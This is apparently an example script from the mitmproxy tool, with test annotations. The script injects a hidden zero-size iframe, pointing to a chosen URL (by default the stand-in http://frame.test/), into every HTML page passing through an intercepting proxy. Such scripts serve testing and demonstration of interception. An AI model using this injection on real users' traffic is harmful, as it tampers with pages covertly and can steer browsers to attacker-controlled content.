from libmproxy.protocol.http import decoded


def start(context, argv):
    if len(argv) not in (1, 2):
        raise ValueError('Usage: -s "iframe_injector.py url"')
    context.iframe_url = argv[1] if len(argv) == 2 else "http://frame.test/"


def response(context, flow):
    if flow.request.host in context.iframe_url:
        return
    with decoded(flow.response):
        html = flow.response.content
        if "<body" in html:
            at = html.index(">", html.index("<body")) + 1
            frame = '<iframe src="%s" frameborder=0 height=0 width=0></iframe>' % context.iframe_url
            flow.response.content = str(html[:at] + frame + html[at:])
            context.log("Iframe inserted.")
# traffic: page
# expect: b'<body><iframe src="http://frame.test/"' in f.response.content
# live: b'<body><iframe src="http://frame.test/"' in client and "Iframe inserted." in output()
